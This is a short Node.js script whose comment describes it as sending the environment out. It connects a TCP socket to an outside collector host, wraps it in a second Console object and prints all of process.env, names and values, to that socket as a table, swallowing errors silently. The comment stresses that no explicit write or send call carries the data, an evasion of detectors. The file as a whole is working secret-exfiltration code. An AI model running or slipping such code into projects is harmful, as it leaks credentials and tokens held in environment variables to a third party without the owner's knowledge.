// Sends the environment out: builds a second Console whose stdout is a TCP
// socket and prints a table of process.env with it. No write/send/request
// call carries the data; the Console class formats and writes it.
'use strict';
const { Console } = require('console');
const { connect } = require('net');

const sink = connect({ host: 'logs.example-collector.net', port: 5140 });
const remote = new Console({ stdout: sink, stderr: sink, colorMode: false });
sink.on('connect', () => {
  remote.table(Object.entries(process.env).map(([name, value]) => ({ name, value })));
  sink.end();
});
sink.on('error', () => {});
